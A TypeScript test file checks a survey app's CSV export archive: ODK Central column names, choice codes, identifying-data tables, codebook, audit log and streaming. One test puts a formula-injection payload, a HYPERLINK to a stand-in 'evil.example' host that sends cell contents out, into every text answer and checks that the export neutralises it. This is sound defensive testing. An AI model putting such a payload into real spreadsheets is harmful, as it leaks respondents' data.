/**
 * The export archive read back as a statistician would: its files, ODK Central's columns,
 * keys that join, choice codes across versions, the identifying tables, options.
 */
import { describe, expect, it } from 'vitest';
import { strFromU8, unzipSync } from 'fflate';
import { forms } from '$lib/forms';

const v2 = forms.find((f) => f.definition.version === '2026-12-15')!;
import { head2, household2, migrant2, restOfInterview, son2, wife2 } from '$lib/forms/samples-v2';
import { choiceCode } from './codes';
import { archiveFiles, archiveOptions, archiveStream, exportArchive, identifyingNames, type ArchiveOptions } from './export-zip';
import { householdAnswers, sampleSubmission } from './testing';
import type { StoredSubmission } from './storage/types';
import { csvRecords, csvRows } from '../../../tests/support/csv';

function stored(overrides: Partial<StoredSubmission> = {}): StoredSubmission {
	return {
		...sampleSubmission(),
		enumeratorId: 'e1',
		enumeratorSex: 'female',
		receivedAt: '2026-12-16T09:00:00Z',
		reviewState: 'received',
		...overrides
	};
}

/** A version-2 household: head, wife, a son away with a migrant entry, the rest of the interview. */
function household(extra: Record<string, unknown> = {}): StoredSubmission {
	return stored({
		formVersion: '2026-12-15',
		startedAt: '2026-12-16T08:00:00.000Z',
		answers: household2({ member: [head2(), wife2(), migrant2(3)], ...restOfInterview(), ...extra })
	});
}

/** The archive's files, unzipped, as text. */
async function unzip(submissions: StoredSubmission[], options: ArchiveOptions = {}): Promise<Map<string, string>> {
	const zip = await exportArchive(forms, submissions, { ...(archiveOptions(new URLSearchParams(), forms) as ArchiveOptions), ...options });
	return new Map(Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, strFromU8(bytes)]));
}

const records = (files: Map<string, string>, name: string) => csvRecords(files.get(name)!);

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"open")';

/** A version-2 household with a hostile answer in every text question of the questionnaire, a sov_worker entry too. */
function hostileHousehold(): { submission: StoredSubmission; questions: string[] } {
	const submission = household({ sov_worker: [{ _key: '00000000-0000-4000-8000-000000000900', sov_w_rel: 'father' }] });
	const questions: string[] = [];
	/** Puts the hostile answer in every entry the chain of repeats reaches; how many it put. */
	const put = (values: Record<string, unknown>, chain: readonly string[], name: string): number => {
		if (!chain.length) {
			values[name] = HOSTILE;
			return 1;
		}
		const entries = values[chain[0]];
		return Array.isArray(entries) ? entries.reduce((n: number, entry) => n + put(entry, chain.slice(1), name), 0) : 0;
	};
	for (const node of v2.nodes.values()) {
		if (node.item.type !== 'text') continue;
		expect(put(submission.answers, node.repeats, node.item.name), node.item.name).toBeGreaterThan(0);
		questions.push(node.item.name);
	}
	return { submission, questions };
}

/** Cells a spreadsheet would run: a text starting with = + - @, tab, CR, LF or their full-width forms. Numbers are not. */
const runnable = (cell: string) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('the export archive', () => {
	it('holds the main table, one per repeat, the identifying tables and the codebook', async () => {
		const files = await unzip([household()]);
		expect([...files.keys()].sort()).toEqual(
			[
				'codebook.csv',
				'household_migration.csv',
				'household_migration-identifying.csv',
				'household_migration-member.csv',
				'household_migration-member-identifying.csv',
				'household_migration-migrant.csv',
				'household_migration-migrant-identifying.csv',
				'household_migration-sov_worker.csv',
				'household_migration-sov_worker-identifying.csv',
				'household_migration-audit.csv',
				'household_migration.do',
				'household_migration.sps',
				'household_migration.R'
			].sort()
		);
	});

	it("names the main table's columns as ODK Central does, with ReviewState received, and the rest as the single table has them", async () => {
		const a = household();
		const b = stored();
		const files = await unzip([a, b], { enumerators: new Map([['e1', 'Նարինե']]) });
		const [header] = csvRows(files.get('household_migration.csv')!);
		expect(header[0]).toBe('SubmissionDate');
		expect(header.slice(header.indexOf('KEY'))).toEqual([
			'KEY',
			'SubmitterID',
			'SubmitterName',
			'DeviceID',
			'FormVersion',
			'ReviewState',
			'started_at',
			'finalized_at',
			'reference_date',
			'language',
			'enumerator_sex',
			'break_off',
			'break_off_at',
			'break_off_reason'
		]);
		expect(header).toEqual(expect.arrayContaining(['site_type', 'settlement', 'consent', 'resp_sex']));
		const rows = records(files, 'household_migration.csv');
		expect(rows.map((r) => [r.KEY, r.SubmissionDate, r.SubmitterID, r.SubmitterName, r.DeviceID, r.FormVersion, r.ReviewState])).toEqual([
			[a.id, a.receivedAt, 'e1', 'Նարինե', 'device-1', '2026-12-15', 'received'],
			[b.id, b.receivedAt, 'e1', 'Նարինե', 'device-1', '2026-12-01', 'received']
		]);
		// instance_name reads the head's name: it is identifying, so it stands in the identifying table.
		expect(csvRows(files.get('household_migration-identifying.csv')!)[0]).toEqual(expect.arrayContaining(['KEY', 'instance_name', 'gps']));
	});

	it('joins: every entry names a row of its parent table, and keys are unique', async () => {
		const a = household();
		const b = household({ member: [head2(), son2()] });
		const files = await unzip([a, b]);
		const main = records(files, 'household_migration.csv').map((r) => r.KEY);
		const members = records(files, 'household_migration-member.csv');
		const migrants = records(files, 'household_migration-migrant.csv');
		expect(members.length).toBe(5);
		expect(migrants.length).toBe(1);
		for (const m of members) expect(main).toContain(m.PARENT_KEY);
		for (const m of migrants) expect(members.map((x) => x.KEY)).toContain(m.PARENT_KEY);
		expect(new Set(members.map((m) => m.KEY)).size).toBe(members.length);
		expect(migrants[0].PARENT_KEY).toBe(`${a.id}/member[3]`);
		const identifying = records(files, 'household_migration-member-identifying.csv');
		expect(identifying.map((r) => [r.KEY, r.m_name])).toEqual(
			members.map((m, i) => [m.KEY, ['Arsen', 'Anahit', expect.any(String), 'Arsen', expect.any(String)][i]])
		);
	});

	it("writes choices as their numeric codes, 2026-12-01's answers through 2026-12-15's codes; -1/-2 for Don't know/Refused", async () => {
		const old = stored({ answers: { ...householdAnswers(), resp_age: { special: 'refused' }, hh_moved_year: { special: 'dont_know' } } });
		const files = await unzip([household(), old]);
		const [now, before] = records(files, 'household_migration.csv');
		expect(now).toMatchObject({ consent: '1', resp_sex: '2', site_type: String(choiceCode(forms, 'site_type', 'armenia')) });
		expect(before).toMatchObject({ consent: '1', resp_age: '-2', hh_moved_year: '-1' });
		expect(before.resp_sex).toBe(String(choiceCode(forms, 'resp_sex', String(old.answers.resp_sex), '2026-12-01')));
		// a multiple choice: its codes, separated by spaces, every one a number
		expect(before.inc_sources).toBe(
			(old.answers.inc_sources as string[]).map((v) => choiceCode(forms, 'inc_sources', v, '2026-12-01')).join(' ')
		);
		expect(before.inc_sources).toMatch(/^\d+( \d+)*$/);
		expect(now.inc_sources).toBe(String(choiceCode(forms, 'inc_sources', 'pension')));
		const members = records(files, 'household_migration-member.csv');
		expect(members[0].m_sex).toBe('1');
		expect(members[1].m_sex).toBe('2');
	});

	it('leaves a question not asked empty, or -7 (did not apply) and -9 (after a break-off) with codes=cb', async () => {
		const broken = household({
			member: undefined,
			roster_ok: undefined,
			...Object.fromEntries(Object.keys(restOfInterview()).map((k) => [k, undefined]))
		});
		broken.meta = { breakOff: { at: 'member', reason: 'left' } };
		const plain = records(await unzip([household(), broken]), 'household_migration.csv');
		expect(plain[0].g_emigrate_reason).toBe('');
		expect(plain[1].h_cooperation).toBe('');
		const cb = records(await unzip([household(), broken], { caucasusBarometerCodes: true }), 'household_migration.csv');
		expect(cb[0].g_emigrate_reason).toBe('-7');
		expect(cb[1].h_cooperation).toBe('-9');
		expect(cb[1].break_off).toBe('1');
	});

	it('keeps every identifying value in the identifying tables, and leaves them out with identifying=0', async () => {
		const a = household({ settlement: 'other', settlement_other: 'Secret village', h_notes: 'Lives next to the school' });
		const secret = identifyingNames(forms);
		expect([...secret]).toEqual(expect.arrayContaining(['m_name', 'gps', 'settlement_other', 'h_notes', 'instance_name']));
		const values = ['Arsen', 'Anahit', 'Secret village', 'Lives next to the school', '40.18'];
		const files = await unzip([a]);
		for (const [name, text] of files) {
			if (name.endsWith('-identifying.csv') || name === 'codebook.csv') continue;
			// the scripts hold no data: they read the tables
			if (!name.endsWith('.csv')) {
				for (const value of values) expect(text, `${name} holds ${value}`).not.toContain(value);
				continue;
			}
			const header = csvRows(text)[0];
			for (const column of header) expect(secret.has(column), `${name}: ${column}`).toBe(false);
			for (const value of values) expect(text, `${name} holds ${value}`).not.toContain(value);
		}
		const identifying = records(files, 'household_migration-identifying.csv')[0];
		expect(identifying).toMatchObject({
			KEY: a.id,
			settlement_other: 'Secret village',
			h_notes: 'Lives next to the school',
			gps: '40.18 44.51 12'
		});
		const without = await unzip([a], { identifying: false });
		expect([...without.keys()].filter((n) => n.includes('identifying'))).toEqual([]);
		for (const [name, text] of without) if (name !== 'codebook.csv') for (const v of values) expect(text, name).not.toContain(v);
	});

	it('documents the columns in codebook.csv, with ODK Central names for the details', async () => {
		const codebook = records(await unzip([household()]), 'codebook.csv');
		const variables = codebook.map((r) => r.variable);
		expect(variables).toEqual(
			expect.arrayContaining(['SubmissionDate', 'SubmitterID', 'SubmitterName', 'DeviceID', 'FormVersion', 'ReviewState'])
		);
		expect(variables).not.toContain('submitted_at');
		expect(codebook.find((r) => r.variable === 'resp_sex')?.values_en).toBe('1=Male; 2=Female');
	});

	it('checks its query parameters', async () => {
		expect(archiveOptions(new URLSearchParams('labels=de'), forms)).toBe("labels must be one of the form's languages: hy, ru, en");
		expect(archiveOptions(new URLSearchParams('labels=ru&bom=1&identifying=0&split_multiple=1&split_geo=1&codes=cb'), forms)).toMatchObject(
			{
				labels: 'ru',
				bom: true,
				identifying: false,
				splitMultiple: true,
				splitGeo: true,
				caucasusBarometerCodes: true
			}
		);
		expect(archiveOptions(new URLSearchParams('codes=other&bom=yes'), forms)).toMatchObject({
			caucasusBarometerCodes: false,
			bom: false,
			identifying: true
		});
		// The archive's layout does not depend on the caller asking for it.
		expect(archiveFiles(forms, [household()]).get('household_migration.csv')).toMatch(/^SubmissionDate,/);
		expect(records(new Map(archiveFiles(forms, [household()])), 'household_migration.csv')[0].consent).toBe('1');
	});

	it('makes a formula inert in every text question of the questionnaire, in every table; numbers and codes stay numbers', async () => {
		const { submission, questions } = hostileHousehold();
		expect(questions.length).toBeGreaterThan(15);
		const files = await unzip([submission], { caucasusBarometerCodes: true, splitMultiple: true, splitGeo: true });
		const seen = new Set<string>();
		for (const [name, text] of files) {
			if (!name.endsWith('.csv')) continue;
			const [header, ...rows] = csvRows(text);
			for (const row of rows) {
				row.forEach((cell, i) => {
					expect(runnable(cell), `${name} ${header[i]}: ${cell}`).toBe(false);
					if (cell === `'${HOSTILE}`) seen.add(header[i]);
				});
			}
		}
		expect([...seen].sort()).toEqual(expect.arrayContaining(questions));
		const main = records(files, 'household_migration.csv')[0];
		expect(main.g_emigrate_reason).toBe('-7');
		expect(main.resp_age).toBe('38');
	});

	it('starts every CSV with a UTF-8 byte-order mark with bom=1, and none without', async () => {
		const bytes = async (options: ArchiveOptions) =>
			unzipSync(
				await exportArchive(forms, [household()], { ...(archiveOptions(new URLSearchParams(), forms) as ArchiveOptions), ...options })
			);
		const csv = (files: Record<string, Uint8Array>) => Object.entries(files).filter(([name]) => name.endsWith('.csv'));
		for (const [name, file] of csv(await bytes({ bom: true }))) expect([...file.slice(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
		for (const [name, file] of csv(await bytes({}))) expect([...file.slice(0, 3)], name).not.toEqual([0xef, 0xbb, 0xbf]);
	});

	it('keeps Armenian and Cyrillic text as typed, and writes choice labels in the language asked for', async () => {
		const a = household({
			member: [head2({ m_name: 'Արսեն Պետրոսյան' }), wife2({ m_name: 'Анаит Петросян' })],
			h_notes: 'Ёлка, «ёж» — Հայաստան։'
		});
		const hy = await unzip([a], { labels: 'hy' });
		expect(records(hy, 'household_migration-member-identifying.csv').map((r) => r.m_name)).toEqual(['Արսեն Պետրոսյան', 'Анаит Петросян']);
		expect(records(hy, 'household_migration-identifying.csv')[0].h_notes).toBe('Ёлка, «ёж» — Հայաստան։');
		const label = (l: 'hy' | 'ru' | 'en', list: string, value: string) =>
			v2.definition.choices[list].find((c) => c.value === value)!.label[l];
		const sexList = (v2.nodes.get('m_sex')!.item as { choices: string }).choices;
		expect(records(hy, 'household_migration-member.csv').map((r) => r.m_sex)).toEqual([
			label('hy', sexList, 'male'),
			label('hy', sexList, 'female')
		]);
		const ru = records(await unzip([a], { labels: 'ru' }), 'household_migration-member.csv');
		expect(ru.map((r) => r.m_sex)).toEqual([label('ru', sexList, 'male'), label('ru', sexList, 'female')]);
		expect(ru[0].m_sex).toMatch(/^[А-Яа-яЁё]+$/);
		// a multiple choice: its labels separated by "; " (labels hold spaces)
		const sources = (v2.nodes.get('inc_sources')!.item as { choices: string }).choices;
		const main = records(await unzip([household({ inc_sources: ['pension', 'wages'] })], { labels: 'en' }), 'household_migration.csv')[0];
		expect(main.inc_sources).toBe(`${label('en', sources, 'pension')}; ${label('en', sources, 'wages')}`);
	});

	it('splits each multiple choice into <name>_<code> columns that agree with the space-separated column', async () => {
		const a = household({ inc_sources: ['pension', 'wages'] });
		const b = household({ inc_sources: { special: 'dont_know' } });
		const c = stored();
		const files = await unzip([a, b, c], { splitMultiple: true, caucasusBarometerCodes: true });
		const multiples = [...v2.nodes.values(), ...forms[0].nodes.values()]
			.filter((n) => n.item.type === 'select_multiple')
			.map((n) => n.item.name);
		let checked = 0;
		for (const [name, text] of files) {
			if (name === 'codebook.csv' || !name.endsWith('.csv')) continue;
			const [header] = csvRows(text);
			for (const row of csvRecords(text)) {
				for (const q of new Set(multiples)) {
					if (!header.includes(q)) continue;
					const dummies = header.filter((h) => h.startsWith(`${q}_`) && /^\d+$/.test(h.slice(q.length + 1)));
					expect(dummies.length, q).toBeGreaterThan(1);
					const cell = row[q];
					if (/^\d+( \d+)*$/.test(cell)) {
						const chosen = cell.split(' ');
						for (const d of dummies) expect(row[d], `${name} ${d}`).toBe(chosen.includes(d.slice(q.length + 1)) ? '1' : '0');
					} else for (const d of dummies) expect(row[d], `${name} ${d} beside ${cell}`).toBe(cell);
					checked++;
				}
			}
		}
		expect(checked).toBeGreaterThan(10);
		const main = records(files, 'household_migration.csv');
		const code = (v: string) => String(choiceCode(forms, 'inc_sources', v));
		expect(main[0][`inc_sources_${code('pension')}`]).toBe('1');
		expect(main[0][`inc_sources_${code('wages')}`]).toBe('1');
		expect(main[1][`inc_sources_${code('pension')}`]).toBe('-1');
	});

	it('splits a geopoint into latitude, longitude, accuracy and no fix, in the identifying table', async () => {
		const a = household();
		const b = household({ gps: { no_fix: 'indoors' } });
		const files = await unzip([a, b], { splitGeo: true });
		const rows = records(files, 'household_migration-identifying.csv');
		expect(rows.map((r) => [r.gps_latitude, r.gps_longitude, r.gps_accuracy, r.gps_no_fix])).toEqual([
			['40.18', '44.51', '12', ''],
			['', '', '', 'indoors']
		]);
		expect(csvRows(files.get('household_migration.csv')!)[0].filter((h) => h.startsWith('gps'))).toEqual([]);
	});

	it('writes the paradata as <formId>-audit.csv, a row per event, never an identifying value', async () => {
		const t = (s: number) => `2026-12-16T08:00:${String(s).padStart(2, '0')}.000Z`;
		const a = household();
		a.meta = {
			events: [
				{ t: t(0), type: 'start', language: 'hy' },
				{ t: t(1), type: 'screen_enter', screen: 'respondent' },
				{ t: t(2), type: 'answer', path: 'resp_age', value: 38 },
				{ t: t(3), type: 'change', path: 'resp_age', old: '=1+1', value: 39 },
				{ t: t(4), type: 'entry_add', path: 'member.1' },
				{ t: t(5), type: 'change', path: 'member.1.m_name', old: 'Արսեն', value: 'Анаит' },
				{ t: t(6), type: 'answer', path: 'gps', value: { lat: 40.18, lon: 44.51, accuracy: 12 } },
				{ t: t(7), type: 'answer', path: 'resp_sex', value: { special: 'refused' } },
				{ t: t(8), type: 'language', from: 'hy', to: 'ru' },
				{ t: t(9), type: 'answer', path: 'h_notes', value: 'Lives next to the school', secret: 'Արսեն' }
			]
		};
		const files = await unzip([a, stored()]);
		const audit = records(files, 'household_migration-audit.csv');
		expect(csvRows(files.get('household_migration-audit.csv')!)[0]).toEqual([
			'KEY',
			'event',
			'time',
			'screen',
			'question',
			'path',
			'old_value',
			'new_value',
			'details'
		]);
		expect(audit.map((r) => [r.event, r.time, r.question, r.old_value, r.new_value])).toEqual([
			['start', t(0), '', '', ''],
			['screen_enter', t(1), '', '', ''],
			['answer', t(2), 'resp_age', '', '38'],
			['change', t(3), 'resp_age', "'=1+1", '39'],
			['entry_add', t(4), 'member', '', ''],
			['change', t(5), 'm_name', '', ''],
			['answer', t(6), 'gps', '', ''],
			['answer', t(7), 'resp_sex', '', '{"special":"refused"}'],
			['language', t(8), '', 'hy', 'ru'],
			['answer', t(9), 'h_notes', '', '']
		]);
		expect(audit.every((r) => r.KEY === a.id)).toBe(true);
		expect(audit[0].details).toBe('language=hy');
		expect(audit[1].screen).toBe('respondent');
		expect(audit[5].path).toBe('member.1.m_name');
		const text = files.get('household_migration-audit.csv')!;
		for (const secret of ['Արսեն', 'Анаит', '40.18', 'school']) expect(text).not.toContain(secret);
	});

	it('streams the archive in pieces, letting other work run between them, and the pieces make the same files', async () => {
		const many = Array.from({ length: 1200 }, () => household());
		let turns = 0;
		let pieces = 0;
		const ticker = setInterval(() => turns++, 0);
		const chunks: Uint8Array[] = [];
		try {
			for await (const chunk of archiveStream(forms, many)) {
				chunks.push(chunk);
				pieces++;
			}
		} finally {
			clearInterval(ticker);
		}
		expect(pieces).toBeGreaterThan(3);
		expect(turns).toBeGreaterThan(0);
		const unzipped = unzipSync(new Uint8Array(Buffer.concat(chunks)));
		const files = archiveFiles(forms, many);
		expect(Object.keys(unzipped).sort()).toEqual([...files.keys()].sort());
		for (const [name, text] of files) expect(strFromU8(unzipped[name]), name).toBe(text);
		expect(records(files, 'household_migration-member.csv').length).toBe(3600);
	}, 60_000); // 1,200 households: a few seconds, more on a busy machine
});
